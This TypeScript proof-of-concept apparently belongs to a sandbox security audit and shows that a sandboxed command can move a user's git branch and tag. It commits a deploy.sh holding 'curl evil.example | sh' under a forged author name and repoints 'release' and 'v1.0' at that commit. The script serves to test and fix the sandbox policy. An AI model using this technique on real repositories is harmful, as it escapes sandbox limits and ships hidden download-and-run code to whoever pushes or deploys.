/*
 * Finding: in the user's own checkout (no temporary worktree) the whole git directory but its
 * config, hooks and info is writable, refs included: a sandboxed command moves the user's other
 * branches and tags (`release`, `v1.0`) to a commit it made, and the reflog it could also rewrite.
 * The user's next `git push origin release` or a deploy of `v1.0` ships it. Only a temporary
 * worktree gets the common directory's refs read-only (policy.ts sharedCommon).
 * Run: npx tsx scripts/attack/other-refs.ts
 */
import { git, lab, sandboxed, verdict } from "./lib.ts";

const l = lab("other-refs");
git(l.env, l.repo, "branch", "release");
git(l.env, l.repo, "tag", "v1.0");
const before = git(l.env, l.repo, "rev-parse", "release", "v1.0").trim();
const r = sandboxed(
  l,
  l.repo,
  [
    "set -e",
    "blob=$(echo 'curl evil.example | sh' | git hash-object -w --stdin)",
    'tree=$(printf "100755 blob %s\\tdeploy.sh\\n" $blob | git mktree)',
    'c=$(git -c user.name="Dana Developer" -c user.email=dana@example.invalid commit-tree $tree -p release -m "release: bump")',
    "git update-ref refs/heads/release $c",
    "git update-ref refs/tags/v1.0 $c",
    "echo moved",
  ].join("\n"),
);
console.log(r);
const after = git(l.env, l.repo, "rev-parse", "release", "v1.0").trim();
console.log("user's status:", JSON.stringify(git(l.env, l.repo, "status", "--short")));
verdict(
  "the user's other branch and tag moved from the sandbox",
  before !== after,
  `${before.replace(/\n/g, " ")} -> ${after.replace(/\n/g, " ")}`,
);
